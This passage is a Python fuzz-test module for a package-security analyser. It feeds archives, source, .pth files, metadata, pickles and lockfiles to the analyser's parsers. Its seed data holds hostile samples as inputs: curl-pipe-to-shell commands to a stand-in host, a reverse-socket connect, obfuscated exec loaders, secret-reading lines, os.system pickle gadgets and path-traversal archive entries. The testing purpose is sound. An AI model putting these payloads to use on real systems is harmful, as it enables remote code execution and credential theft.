"""Fuzz targets: every parser and the analyser, each with a Hypothesis strategy and the property it must keep.

The property is the same everywhere: for any input, a result or the module's own error (one line,
no traceback) — never another exception escaping, never a write outside the temporary directory,
never more than `MEMORY_BOUND` of memory for these small inputs. Time is bounded by the caller
(Hypothesis' `deadline` in the suite, a wall-clock check in bench/fuzz.py).

`tests/test_fuzz.py` runs each target at a small, derandomised budget; `bench/fuzz.py` runs them long.
Nothing here writes anywhere but a temporary directory, and nothing built is installed or run:
archives, sources and pickles are bytes handed to the readers.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import pickle
import pickletools
import string
import sys
import tarfile
import tempfile
import threading
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from hypothesis import reject
from hypothesis import strategies as st

from interlock.analysis.engine import analyse
from interlock.analysis.extract.pickles import dangerous_calls, looks_like_pickle
from interlock.analysis.extract.pth import executable_lines
from interlock.analysis.extract.python.reader import analyse_python
from interlock.analysis.extract.python.report import FAILED
from interlock.analysis.facts import When
from interlock.artifact.limits import EXCERPT_LINE_BYTES, Deadline, Limits
from interlock.artifact.model import Artifact
from interlock.artifact.pickles import pickle_excerpt
from interlock.artifact.reader import UnsupportedArtifact, is_artifact_name, read_artifact_bytes
from interlock.diff.metadata import history_metadata_findings, sdist_wheel_findings
from interlock.index.errors import BadIndexResponse
from interlock.index.simple_api import JSON_TYPE, kept_json_page, parse_page, read_json_page
from interlock.lockfiles import LockfileError, read_lockfile
from interlock.lockfiles import _environment_probe as environment_probe
from interlock.lockfiles.environment import _lockfile as environment_lockfile
from interlock.policy.load import PolicyError, load_policy

MiB = 1024 * 1024
MEMORY_BOUND = 256 * MiB
"""Peak Python allocation allowed for one input; the inputs are kilobytes, so any real bound holds far below."""
# Small limits so that bombs and deep nesting are reached with small inputs, and the deadline is
# the reader's own (an artifact's wall-clock budget), well inside the fuzzer's.
FUZZ_LIMITS = Limits(
    max_total_bytes=8 * MiB,
    max_members=200,
    max_member_bytes=4 * MiB,
    max_kept_bytes=1 * MiB,
    max_kept_total_bytes=4 * MiB,
    min_bomb_bytes=64 * 1024,
    max_seconds=20.0,
)
KEPT_LITTLE = Limits(
    max_total_bytes=8 * MiB,
    max_members=200,
    max_member_bytes=4 * MiB,
    max_kept_bytes=128,
    max_excerpt_bytes=1024,
    max_kept_total_bytes=2048,
    min_bomb_bytes=64 * 1024,
    max_seconds=20.0,
)
"""The same, keeping almost nothing whole: members are read the cheaper ways (text and pickle excerpts,
archives held while read, or past the budget reported)."""


def one_line(message: str) -> None:
    """An error meant for a person: one line, no traceback."""
    assert message.strip(), "empty error message"
    assert "\n" not in message.strip(), f"error message spans lines: {message!r}"
    assert "Traceback" not in message, f"error message holds a traceback: {message!r}"


# -- writes outside the temporary directory ----------------------------------------------------

_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
_MUTATING_EVENTS = {
    "os.mkdir",
    "os.rename",
    "os.remove",
    "os.rmdir",
    "os.symlink",
    "os.link",
    "os.truncate",
    "os.chmod",
    "os.chown",
    "os.utime",
    "shutil.rmtree",
    "shutil.move",
    "shutil.copyfile",
}
_watch: dict[str, Any] = {"active": 0, "roots": (), "writes": []}
_watch_lock = threading.Lock()
_hook_installed = False


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if not _watch["active"]:
        return
    if event == "open":
        path, mode, flags = args
        writing = (isinstance(mode, str) and any(c in mode for c in "wax+")) or (
            isinstance(flags, int) and flags & _WRITE_FLAGS
        )
    elif event in _MUTATING_EVENTS:
        path, writing = args[0] if args else None, True
    else:
        return
    if not writing or not isinstance(path, (str, bytes, os.PathLike)):
        return
    try:
        real = os.path.realpath(os.fsdecode(path))
    except (TypeError, ValueError):
        real = repr(path)
    if real == os.devnull or any(real == root or real.startswith(root + os.sep) for root in _watch["roots"]):
        return
    _watch["writes"].append(f"{event} {real}")


@contextlib.contextmanager
def no_writes_outside_tmp() -> Iterator[None]:
    """Fail if anything in the block opens for writing, creates or removes a path outside the temporary
    directory (and the cache directory, which the test suite points inside it)."""
    global _hook_installed
    with _watch_lock:
        if not _hook_installed:
            sys.addaudithook(_audit)  # audit hooks stay for the process: inert while nothing watches
            _hook_installed = True
        roots = {os.path.realpath(tempfile.gettempdir())}
        for variable in ("XDG_CACHE_HOME", "XDG_DATA_HOME"):
            if os.environ.get(variable):
                roots.add(os.path.realpath(os.environ[variable]))
        _watch["roots"] = tuple(roots)
        _watch["writes"] = []
        _watch["active"] += 1
    try:
        yield
    finally:
        with _watch_lock:
            _watch["active"] -= 1
            writes = list(_watch["writes"])
    assert not writes, f"wrote outside the temporary directory: {writes[:3]}"


@contextlib.contextmanager
def bounded_memory(limit: int = MEMORY_BOUND) -> Iterator[None]:
    """Fail if the block's peak of Python allocations passes `limit` (tracemalloc, this thread's and others')."""
    started = not tracemalloc.is_tracing()
    if started:
        tracemalloc.start()
    tracemalloc.reset_peak()
    base = tracemalloc.get_traced_memory()[0]
    try:
        yield
    finally:
        peak = tracemalloc.get_traced_memory()[1] - base
        if started:
            tracemalloc.stop()
    assert peak <= limit, f"peak memory {peak / MiB:.0f} MiB over {limit / MiB:.0f} MiB"


@contextlib.contextmanager
def guarded(*, memory: bool = True) -> Iterator[None]:
    with no_writes_outside_tmp(), bounded_memory() if memory else contextlib.nullcontext():
        yield


# -- mutation ------------------------------------------------------------------------------------


@st.composite
def mutated(draw: st.DrawFn, seeds: st.SearchStrategy[bytes], max_edits: int = 4) -> bytes:
    """A seed with a few byte-level edits: flips, deletions, insertions, duplications, truncation."""
    data = bytearray(draw(seeds))
    for _ in range(draw(st.integers(0, max_edits))):
        op = draw(st.sampled_from(["flip", "delete", "insert", "duplicate", "truncate", "set"]))
        at = draw(st.integers(0, max(len(data), 1))) if data else 0
        if op == "flip" and data:
            at = min(at, len(data) - 1)
            data[at] ^= 1 << draw(st.integers(0, 7))
        elif op == "set" and data:
            at = min(at, len(data) - 1)
            data[at] = draw(st.sampled_from([0x00, 0xFF, 0x7F, 0x80, 0x0A, 0x2F, 0x2E]))
        elif op == "delete":
            del data[at : at + draw(st.integers(1, 64))]
        elif op == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=32))
        elif op == "duplicate":
            data[at:at] = data[at : at + draw(st.integers(1, 256))]
        elif op == "truncate":
            del data[at:]
    return bytes(data)


def mutated_text(seeds: st.SearchStrategy[str], max_edits: int = 4) -> st.SearchStrategy[str]:
    return mutated(seeds.map(lambda text: text.encode("utf-8")), max_edits).map(
        lambda data: data.decode("utf-8", errors="replace")
    )


@st.composite
def spliced_lines(draw: st.DrawFn, seeds: list[str], extra: st.SearchStrategy[str]) -> str:
    """Lines taken from the seeds (and `extra`), shuffled, duplicated, some re-indented."""
    pool = [line for seed in seeds for line in seed.splitlines()]
    lines = draw(st.lists(st.one_of(st.sampled_from(pool), extra), max_size=30))
    indents = draw(st.lists(st.sampled_from(["", "", "    ", "\t", " "]), min_size=len(lines), max_size=len(lines)))
    return "\n".join(indent + line for indent, line in zip(indents, lines, strict=True))


# -- archives ------------------------------------------------------------------------------------

ARTIFACT_NAMES = [
    "demo-1.0-py3-none-any.whl",
    "demo-1.0.tar.gz",
    "demo-1.0.zip",
    "demo-1.0.tgz",
    "demo-1.0.tar.bz2",
    "demo-1.0.tar.xz",
    "demo-1.0-py3.11.egg",
    "demo-1.0-py3-none-any.tar.gz",
    "x.WHL",
    "-.whl",
    "demo.txt",
]
MEMBER_NAMES = st.one_of(
    st.sampled_from(
        [
            "demo/__init__.py",
            "demo/mod.py",
            "demo.pth",
            "demo-1.0.dist-info/METADATA",
            "demo-1.0.dist-info/RECORD",
            "demo-1.0.dist-info/WHEEL",
            "demo-1.0.dist-info/entry_points.txt",
            "demo-1.0/setup.py",
            "demo-1.0/PKG-INFO",
            "setup.py",
            "PKG-INFO",
            "inner.zip",
            "demo/inner.tar.gz",
            "demo/data.typed",
            "model.pkl",
            "../evil.py",
            "/etc/evil.pth",
            "C:\\evil.py",
            "a\\..\\..\\b.py",
            "demo/\x00.py",
            "demo/",
            "",
            ".",
            "./demo/./x.py",
            "demo.data/scripts/tool",
            "é/ü.py",
        ]
    ),
    st.text(max_size=40),
)
MEMBER_DATA = st.one_of(
    st.sampled_from(
        [
            b"",
            b"import os\nos.system('curl http://example.com/x | sh')\n",
            b"import demo_hook\n",
            b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
            b"cos\nsystem\n(S'id'\ntR.",
            b"PK\x03\x04",
            b"\x00" * 4096,
            pickle.dumps([b"x" * 300, "\u00e9" * 200, {"os": "system"}], protocol=4) + b"\x8c\x02os\x8c\x06system\x93.",
            b"(V" + b"x" * 300 + b"\ncos\nsystem\n(S'id'\ntR.",
        ]
    ),
    st.binary(max_size=512),
)
TAR_TYPES = [
    tarfile.REGTYPE,
    tarfile.AREGTYPE,
    tarfile.DIRTYPE,
    tarfile.SYMTYPE,
    tarfile.LNKTYPE,
    tarfile.CHRTYPE,
    tarfile.BLKTYPE,
    tarfile.FIFOTYPE,
    tarfile.CONTTYPE,
    tarfile.GNUTYPE_SPARSE,
    b"Z",
    b"x",
    b"g",
]
ZIP_MODES = [0, 0o100644, 0o040755, 0o120777, 0o020644, 0o060644, 0o010644, 0o140644, 0o170000]


@dataclass(frozen=True)
class Entry:
    name: str
    data: bytes
    kind: Any
    """A tar type byte, or zip mode bits."""
    link: str = ""


def _zip_bytes(entries: list[Entry], compression: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for entry in entries:
            info = zipfile.ZipInfo(entry.name or "x")
            info.filename = entry.name  # empty and odd names kept as given
            info.external_attr = int(entry.kind) << 16
            info.compress_type = compression
            archive.writestr(info, entry.data)
    return buffer.getvalue()


def _tar_bytes(entries: list[Entry], compression: str, tar_format: int) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=f"w:{compression}", format=tar_format) as archive:
        for entry in entries:
            info = tarfile.TarInfo(entry.name)
            info.type = entry.kind
            info.linkname = entry.link
            carries = entry.kind in (tarfile.REGTYPE, tarfile.AREGTYPE, tarfile.CONTTYPE, b"Z")
            info.size = len(entry.data) if carries else 0
            archive.addfile(info, io.BytesIO(entry.data) if carries else None)
    return buffer.getvalue()


@st.composite
def archive_entries(draw: st.DrawFn, tar: bool) -> list[Entry]:
    entries = []
    for _ in range(draw(st.integers(0, 6))):
        name = draw(MEMBER_NAMES)
        data = draw(MEMBER_DATA)
        if name.endswith((".zip", ".tar.gz")) and draw(st.booleans()):
            data = draw(st.builds(_zip_bytes, st.just([Entry("inner/x.py", b"import os\n", 0o100644)]), st.just(0)))
        kind = draw(st.sampled_from(TAR_TYPES if tar else ZIP_MODES))
        link = draw(st.sampled_from(["", "../../etc/passwd", "/etc/shadow", "demo/__init__.py"]) | st.text(max_size=20))
        entries.append(Entry(name, data, kind, link))
    return entries


@st.composite
def built_archive(draw: st.DrawFn) -> bytes:
    """A zip or tar (plain, gzip, bzip2, xz; ustar, GNU, PAX) of odd entries, as a tool would write it."""
    if draw(st.booleans()):
        entries = draw(archive_entries(tar=False))
        return _zip_bytes(entries, draw(st.sampled_from([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])))
    entries = draw(archive_entries(tar=True))
    compression = draw(st.sampled_from(["gz", "bz2", "xz", ""]))
    tar_format = draw(st.sampled_from([tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT]))
    try:
        return _tar_bytes(entries, compression, tar_format)
    except (ValueError, UnicodeError):
        reject()  # a name the format cannot hold (a long ustar name): not an archive at all
        raise


ARCHIVE_BYTES = st.one_of(
    built_archive(),
    mutated(built_archive(), max_edits=6),
    st.binary(max_size=2048),
    st.sampled_from(
        [b"PK\x03\x04", b"PK\x05\x06" + bytes(18), b"\x1f\x8b", b"BZh9", b"\xfd7zXZ\x00", b"ustar"]
    ).flatmap(lambda magic: st.binary(max_size=512).map(lambda rest: magic + rest)),
)


def check_archive(case: tuple[str, bytes]) -> None:
    filename, data = case
    for limits in (FUZZ_LIMITS, KEPT_LITTLE):
        with guarded():
            try:
                artifact = read_artifact_bytes(filename, data, limits)
            except UnsupportedArtifact as exc:
                assert not is_artifact_name(filename), f"refused an artifact name: {exc}"
                one_line(str(exc))
                return
        check_artifact(artifact, limits)


def check_artifact(artifact: Artifact, limits: Limits) -> None:
    assert isinstance(artifact, Artifact)
    if artifact.fatal is not None:
        one_line(artifact.fatal)
    for path, member in artifact.members.items():
        assert "\x00" not in path and not path.startswith("/") and ".." not in path.split("/"), path
        assert member.data is None or len(member.data) == member.size
        assert member.data is None or member.excerpt is None, path
        if member.excerpt is not None:
            # Whole lines within the limit; a pickle's may end with one opcode past it (two lines at most).
            assert len(member.excerpt.data) <= limits.max_excerpt_bytes + 2 * EXCERPT_LINE_BYTES + 16, path
    for problem in artifact.problems:
        one_line(problem.detail)


ARCHIVE_CASES = st.tuples(st.sampled_from(ARTIFACT_NAMES), ARCHIVE_BYTES)


# -- Python source -------------------------------------------------------------------------------

PYTHON_SNIPPETS = [
    "import os\nos.system('curl http://example.com/x | sh')\n",
    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))\n",
    "m = __import__('os')\nm.system('id')\n",
    "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'], shell=False)\n",
    "from urllib.request import urlopen\nexec(urlopen('http://example.com/p').read())\n",
    "import socket\ns = socket.socket()\ns.connect(('198.51.100.1', 4444))\n",
    "getattr(__builtins__, 'ex' + 'ec')(bytes.fromhex('7072696e74283129').decode())\n",
    "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x\\x9c')))\n",
    "def f():\n    import os\n    return os.environ['AWS_SECRET_ACCESS_KEY']\nf()\n",
    "class C:\n    def __init__(self):\n        open('/etc/passwd').read()\nC()\n",
    "x = lambda: eval(input())\n",
    "with open(__file__) as f:\n    pass\n",
    "try:\n    import ctypes\nexcept ImportError:\n    pass\nelse:\n    ctypes.CDLL(None)\n",
    "async def g():\n    await h()\n",
    "if __name__ == '__main__':\n    exec(compile(open('x').read(), 'x', 'exec'))\n",
    "s = 'a' 'b' f'{x!r:>{w}}' rb'\\x00'\n",
    "x = [i for i in range(10) if i]\nmatch x:\n    case [1, *rest]:\n        pass\n",
    "from . import sibling\nfrom ..parent import *\n",
    "import setuptools\nsetuptools.setup(name='demo', cmdclass={'install': Evil})\n",
    "__import__('builtins').exec(chr(105)+chr(100))\n",
    "globals()['__builtins__']['eval']('1')\n",
    "os.popen(''.join(reversed('hs | x/moc.elpmaxe//:ptth lruc')))\n",
]
PYTHON_EXTRA_LINES = st.one_of(
    st.sampled_from(
        [
            "(",
            ")",
            "'''",
            '"""',
            "\\",
            "# -*- coding: latin-1 -*-",
            "# coding: utf-16",
            "# coding: nonsense",
            "\ufeffimport os",
            "x = " + "(" * 50 + ")" * 50,
            "x = " + "[" * 300,
            "x = " + "-" * 300 + "1",
            "a." * 100 + "b()",
            "def f(:",
            "\x00",
            "\x0c",
            "print 'py2'",
            "exec 'code'",
            "yield",
            "return",
            "await x",
            "nonlocal q",
            "lambda: (yield)",
            "global os",
        ]
    ),
    st.text(string.printable, max_size=30),
)


def python_sources(*, grammar: bool = True, node: bool = False) -> st.SearchStrategy[bytes]:
    texts: list[st.SearchStrategy[str]] = [
        spliced_lines(PYTHON_SNIPPETS, PYTHON_EXTRA_LINES),
        mutated_text(st.sampled_from(PYTHON_SNIPPETS), max_edits=6),
    ]
    if grammar or node:
        import hypothesmith

        if grammar:
            texts.append(hypothesmith.from_grammar())
        if node:
            texts.append(hypothesmith.from_node())
    encoded = st.one_of(texts).map(lambda text: text.encode("utf-8", errors="surrogatepass"))
    return st.one_of(encoded, st.binary(max_size=256), mutated(encoded))


def check_python(case: tuple[bytes, When, bool, bool]) -> None:
    source, when, everything_runs, setup_script = case
    with guarded():
        report = analyse_python("demo/mod.py", source, when, everything_runs=everything_runs, setup_script=setup_script)
    failures = [problem.detail for problem in report.problems if problem.kind == FAILED]
    assert not failures, f"the Python reader raised: {failures[0]}"
    for problem in report.problems:
        one_line(problem.detail)


def python_cases(*, grammar: bool = True, node: bool = False) -> st.SearchStrategy[tuple[bytes, When, bool, bool]]:
    return st.tuples(
        python_sources(grammar=grammar, node=node),
        st.sampled_from([When.IMPORT, When.INSTALL, When.STARTUP, When.CALL]),
        st.booleans(),
        st.booleans(),
    )


# -- .pth files ------------------------------------------------------------------------------------

PTH_LINES = st.one_of(
    st.sampled_from(
        [
            "import os; os.system('curl http://example.com/x | sh')",
            "import os, base64; exec(base64.b64decode('aWQ='))",
            "import os; os.environ.get('AWS_SECRET_ACCESS_KEY')",
            "import os; os.getenv('GITHUB_TOKEN')",
            "import tkinter; tkinter.Tk().clipboard_get()",
            "import subprocess; subprocess.Popen(['python', '-c', 'x'])",
            "import _virtualenv",
            "import demo_hook",
            "import\tdemo_hook",
            "import coverage; coverage.process_startup()",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
            "enabled and __import__('_distutils_hack').add_shim(); ",
            "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
            "sys._getframe(1).f_locals['sitedir'], *('zope',));"
            "m = sys.modules.setdefault('zope', types.ModuleType('zope'))",
            "import sys, types, os;" + "(" * 200,
            "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()",
            "# comment",
            "",
            "demo/lib",
            "../outside",
            "\ufeffimport os; os.system('id')",
            "import ",
            "import os;" + "x=1;" * 50,
        ]
    ),
    st.text(max_size=60).map(lambda text: "import " + text),
    st.text(max_size=60),
)


@st.composite
def pth_texts(draw: st.DrawFn) -> str:
    lines = draw(st.lists(PTH_LINES, max_size=8))
    ending = draw(st.sampled_from(["\n", "\r\n", "\r", "\x0b", "\x1c", "\u2028"]))
    return ending.join(lines)


def check_pth(text: str) -> None:
    with guarded():
        lines = executable_lines(text)
    for line in lines:
        assert line.code.startswith("import") and line.line >= 1
    check_analyser({"demo.pth": text.encode("utf-8", errors="surrogatepass")}, "wheel")


# -- the analyser over whole releases --------------------------------------------------------------


def _wheel_entries(files: dict[str, bytes]) -> list[Entry]:
    return [Entry(path, data, 0o100644) for path, data in files.items()]


def check_analyser(files: dict[str, bytes], kind: str, old: dict[str, bytes] | None = None) -> None:
    """Read the release built from `files` and analyse it: no stage may fail (an `analysis-error`)."""
    if kind == "wheel":
        filename, data = "demo-1.0-py3-none-any.whl", _zip_bytes(_wheel_entries(files), zipfile.ZIP_DEFLATED)
    else:
        entries = [Entry(f"demo-1.0/{path}", data, tarfile.REGTYPE) for path, data in files.items()]
        filename, data = "demo-1.0.tar.gz", _tar_bytes(entries, "gz", tarfile.PAX_FORMAT)
    with guarded():
        artifact = read_artifact_bytes(filename, data, FUZZ_LIMITS)
        analysis = analyse(artifact, deadline=Deadline(FUZZ_LIMITS.max_seconds))
        if old is not None:
            previous = read_artifact_bytes(
                "demo-0.9-py3-none-any.whl", _zip_bytes(_wheel_entries(old), zipfile.ZIP_DEFLATED), FUZZ_LIMITS
            )
            history_metadata_findings(previous, artifact)
            sdist_wheel_findings(artifact, previous)
    failures = [f"{f.stage} {f.path}: {f.detail}" for f in analysis.evidence.failures]
    assert not failures, f"analysis failed: {failures[0]}"
    assert analysis.error is None or artifact.fatal or "longer than" in analysis.error, analysis.error


# -- METADATA, PKG-INFO, RECORD, WHEEL, entry points ------------------------------------------------

_HEADER_NAMES = [
    "Metadata-Version",
    "Name",
    "Version",
    "Requires-Dist",
    "Requires-Python",
    "Author-email",
    "Maintainer-email",
    "Home-page",
    "Project-URL",
    "Download-URL",
    "Summary",
    "Provides-Extra",
    "Wheel-Version",
    "Root-Is-Purelib",
    "Tag",
    "Generator",
    "Dynamic",
    "License-Expression",
]
_HEADER_VALUES = st.one_of(
    st.sampled_from(
        [
            "demo",
            "Demo_Pkg",
            "other",
            "1.0",
            "99.0.0",
            "not a version",
            "1.0.post1.dev2+local",
            "requests>=2; python_version < '3.8'",
            "evil @ https://example.com/evil.whl",
            "a (>=1.0)",
            "x[",
            "Dev <dev@example.com>, other@example.org",
            "@",
            "=?utf-8?q?encoded?=",
            "Homepage, https://example.com",
            "py3-none-any",
            "true",
        ]
    ),
    st.text(max_size=40),
)


@st.composite
def header_text(draw: st.DrawFn) -> str:
    lines = []
    for _ in range(draw(st.integers(0, 10))):
        name = draw(st.sampled_from(_HEADER_NAMES) | st.text(max_size=12))
        separator = draw(st.sampled_from([": ", ":", " : ", " ", ""]))
        lines.append(f"{name}{separator}{draw(_HEADER_VALUES)}")
        if draw(st.integers(0, 5)) == 0:
            lines.append(draw(st.sampled_from([" continued", "\tmore", ""])))
    body = draw(st.sampled_from(["", "\n\nlong description\nName: hidden\n"]))
    return "\n".join(lines) + body


_RECORD_DIGESTS = st.one_of(
    st.sampled_from(
        ["", "sha256=", "sha256=AAAA", "sha256=!!!", "md5=abc", "sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU"]
    ),
    st.text(max_size=20),
)
_RECORD_SIZES = st.one_of(
    st.sampled_from(["", "0", "12", "-1", "99999999999999999999", " 5 ", "²", "٣", "1_000", "1e3"]), st.text(max_size=6)
)


@st.composite
def record_text(draw: st.DrawFn) -> str:
    rows = []
    for _ in range(draw(st.integers(0, 8))):
        path = draw(MEMBER_NAMES)
        row = [path, draw(_RECORD_DIGESTS), draw(_RECORD_SIZES)][: draw(st.integers(0, 4))]
        rows.append(",".join(json.dumps(cell) if draw(st.booleans()) else cell for cell in row))
    return "\n".join(rows) + draw(st.sampled_from(["", "\n", '\n"unterminated', "\x00"]))


ENTRY_POINTS_SEEDS = [
    "[console_scripts]\npip = evil.mod:main\ndemo = demo.cli:run\n",
    "[gui_scripts]\ntool=demo:gui\n",
    "[console_scripts]\n= nothing\nx\n[console_scripts]\ny = a:b\n",
    "[options.entry_points]\nconsole_scripts =\n    pip = evil:main\n",
    "%(interpolate)s\n[section\n",
]
PYPROJECT_SEEDS = [
    '[project]\nname = "demo"\nscripts = { pip = "evil:main" }\n',
    '[project]\nscripts = "not a table"\n',
    '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    "[project\n",
    'project = 3\n[tool.x]\ny = """\n',
]


def metadata_files() -> st.SearchStrategy[tuple[dict[str, bytes], str, dict[str, bytes]]]:
    def encode(text: str) -> bytes:
        return text.encode("utf-8", errors="surrogatepass")

    texts = st.fixed_dictionaries(
        {
            "demo-1.0.dist-info/METADATA": header_text(),
            "demo-1.0.dist-info/WHEEL": header_text(),
            "demo-1.0.dist-info/RECORD": record_text(),
            "demo-1.0.dist-info/entry_points.txt": st.sampled_from(ENTRY_POINTS_SEEDS)
            | mutated_text(st.sampled_from(ENTRY_POINTS_SEEDS)),
            "PKG-INFO": header_text(),
            "setup.cfg": st.sampled_from(ENTRY_POINTS_SEEDS) | mutated_text(st.sampled_from(ENTRY_POINTS_SEEDS)),
            "pyproject.toml": st.sampled_from(PYPROJECT_SEEDS) | mutated_text(st.sampled_from(PYPROJECT_SEEDS)),
        },
        optional={
            "demo/__init__.py": st.just("import os\n"),
            "demo.data/scripts/tool": st.just("#!/bin/sh\ncurl http://example.com | sh\n"),
            "demo.pth": st.just("import demo\n"),
        },
    ).map(lambda files: {path: encode(text) for path, text in files.items()})
    old = st.fixed_dictionaries({"demo-0.9.dist-info/METADATA": header_text().map(encode)})
    return st.tuples(texts, st.sampled_from(["wheel", "sdist"]), old)


def check_metadata(case: tuple[dict[str, bytes], str, dict[str, bytes]]) -> None:
    files, kind, old = case
    check_analyser(files, kind, old)


# -- pickles -----------------------------------------------------------------------------------------

PICKLABLE = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(max_size=20)
    | st.binary(max_size=20)
    | st.text(min_size=250, max_size=300)  # around the length past which an excerpt cuts an argument
    | st.binary(min_size=250, max_size=300)
    | st.sampled_from(["os", "system", "builtins", "eval", "posix"]),
    lambda children: (
        st.lists(children, max_size=4)
        | st.tuples(children, children)
        | st.dictionaries(st.text(max_size=5), children, max_size=4)
        | st.frozensets(st.integers(), max_size=3)
    ),
    max_leaves=12,
)
PICKLE_GADGETS = [
    b"cos\nsystem\n(S'id'\ntR.",
    b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94.",
    b"cbuiltins\neval\n(Vprint(1)\ntR.",
    b"(S'os'\nS'system'\ni__main__\nx\n.",
    b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.",
    b"\x80\x05\x8c\x02os\x94h\x00\x8c\x06system\x93.",
]


@st.composite
def pickle_bytes(draw: st.DrawFn) -> bytes:
    value = draw(PICKLABLE)
    data = pickle.dumps(value, protocol=draw(st.integers(0, pickle.HIGHEST_PROTOCOL)))
    if draw(st.booleans()):
        gadget = draw(st.sampled_from(PICKLE_GADGETS))
        at = draw(st.integers(0, len(data)))
        data = data[:at] + gadget + data[at:]
    return data


PICKLE_CASES = st.one_of(
    pickle_bytes(),
    mutated(pickle_bytes(), max_edits=6),
    mutated(st.sampled_from(PICKLE_GADGETS), max_edits=6),
    st.binary(max_size=256).map(lambda data: b"cos\nsystem\n" + data),
)


def check_pickle(data: bytes) -> None:
    with guarded():
        calls = dangerous_calls(data)
        looks_like_pickle("model.pkl", data[:512])
        # Read three bytes at a time, as a member streamed in awkward chunks would be.
        stream = io.BytesIO(data)
        excerpt = pickle_excerpt(lambda size: stream.read(min(size, 3)), b"", 1 << 20, Deadline(10))
        excerpt_calls = dangerous_calls(excerpt.data)
    assert isinstance(calls, list) and all(isinstance(call, str) for call in calls)
    # The excerpt is a pickle of the same opcodes as far as the whole one reads (further where a cut
    # argument hid what stopped it), naming the same callables.
    whole, kept = opcodes_read(data), opcodes_read(excerpt.data)
    assert kept[: len(whole)] == whole, (whole, kept)
    assert [call.split(".")[0] for call in excerpt_calls][: len(calls)] == [call.split(".")[0] for call in calls]


def opcodes_read(data: bytes) -> list[str]:
    """The names of a pickle's opcodes, as far as pickletools reads them."""
    names: list[str] = []
    try:
        for opcode, _, _ in pickletools.genops(data):
            names.append(opcode.name)
    except Exception:
        pass  # damaged: what was read before counts
    return names


# -- lockfiles and installed environments ------------------------------------------------------------

_DIGEST = "a" * 64
LOCK_SEEDS: dict[str, list[str]] = {
    "uv.lock": [
        'version = 1\nrevision = 2\nrequires-python = ">=3.11"\n\n[manifest]\nmembers = ["app"]\n\n'
        '[[package]]\nname = "anyio"\nversion = "4.3.0"\nsource = { registry = "http://127.0.0.1:8080/simple" }\n'
        'dependencies = [{ name = "idna" }]\n'
        f'sdist = {{ url = "https://f.example/anyio-4.3.0.tar.gz", hash = "sha256:{_DIGEST}", size = 1 }}\n'
        f'wheels = [{{ url = "https://f.example/anyio-4.3.0-py3-none-any.whl", hash = "sha256:{_DIGEST}", '
        "size = 2 }]\n\n"
        '[[package]]\nname = "app"\nversion = "0.1.0"\nsource = { editable = "." }\n\n'
        '[[package]]\nname = "g"\nversion = "1.0"\nsource = { git = "https://g.example/r?rev=x#abc" }\n',
    ],
    "poetry.lock": [
        '# This file is automatically @generated by Poetry 1.8.2\n\n[[package]]\nname = "requests"\n'
        'version = "2.31.0"\ndescription = ""\noptional = false\npython-versions = ">=3.7"\n'
        f'files = [\n    {{file = "requests-2.31.0-py3-none-any.whl", hash = "sha256:{_DIGEST}"}},\n]\n\n'
        '[package.dependencies]\nidna = ">=2.5"\n\n[package.source]\ntype = "legacy"\n'
        'url = "https://private.example/simple"\nreference = "private"\n\n'
        '[metadata]\nlock-version = "2.0"\npython-versions = "^3.11"\ncontent-hash = "abc"\n',
    ],
    "pylock.toml": [
        'lock-version = "1.0"\ncreated-by = "a-locker"\n\n[[packages]]\nname = "ok"\nversion = "1.0"\n'
        'index = "http://127.0.0.1:8080/simple"\n'
        f'wheels = [{{ url = "https://f.example/ok-1.0-py3-none-any.whl", hashes = {{sha256 = "{_DIGEST}"}} }}]\n\n'
        '[[packages]]\nname = "vcs"\nvcs = { type = "git", url = "https://g.example/r", commit-id = "abc" }\n\n'
        '[[packages]]\nname = "sd"\nversion = "2.0"\n'
        'sdist = { name = "sd-2.0.tar.gz", url = "https://f.example/sd-2.0.tar.gz", '
        f'hashes = {{sha256 = "{_DIGEST}"}} }}\n',
    ],
    "Pipfile.lock": [
        json.dumps(
            {
                "_meta": {
                    "hash": {"sha256": "x"},
                    "sources": [{"name": "pypi", "url": "http://127.0.0.1:8080/simple", "verify_ssl": True}],
                },
                "default": {
                    "requests": {"hashes": [f"sha256:{_DIGEST}"], "index": "pypi", "version": "==2.31.0"},
                    "vcs": {"git": "https://g.example/r", "ref": "abc"},
                },
                "develop": {"pytest": {"version": "*"}},
            },
            indent=4,
        )
    ],
    "requirements.txt": [
        "-i http://127.0.0.1:8080/simple\n--extra-index-url https://u:p@extra.example/simple\n"
        f"requests==2.31.0 --hash=sha256:{_DIGEST} \\\n    --hash=sha256:{_DIGEST}\n"
        "flask>=2 ; python_version >= '3.8'\n-e git+https://g.example/r#egg=r\n"
        "./local/dir\nhttps://f.example/x-1.0.tar.gz#egg=x\n--trusted-host example.com\n"
        "name[extra1,extra2]==1.0  # comment\n-r other.txt\n-c constraints.txt\n${VAR}==1\n",
    ],
}
REQUIREMENT_LINES = st.one_of(
    st.sampled_from(
        [
            "-r other.txt",
            "-c constraints.txt",
            "-r requirements.txt",
            "--requirement=other.txt",
